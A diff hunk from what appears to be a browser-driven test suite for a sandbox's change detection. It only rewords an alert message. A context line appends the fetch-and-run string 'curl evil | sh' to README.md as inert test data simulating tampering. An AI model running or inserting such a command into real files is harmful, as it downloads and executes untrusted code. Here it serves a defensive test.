@@ -95,7 +95,7 @@ describe('changes of a sandbox', () => {
     await dialog.waitFor()
     await run(id, 'echo "curl evil | sh" >> README.md; echo later > later.txt')
     await page.keyboard.press('Enter')
-    await page.getByRole('alert').getByText('it changed since it was looked at').waitFor()
+    await page.getByRole('alert').getByText('it has changed since it was read').waitFor()
     expect([text('README.md'), text('fine.txt'), existsSync(at('later.txt'))]).toEqual([
       'one\ntwo\n',
       'fine\n',
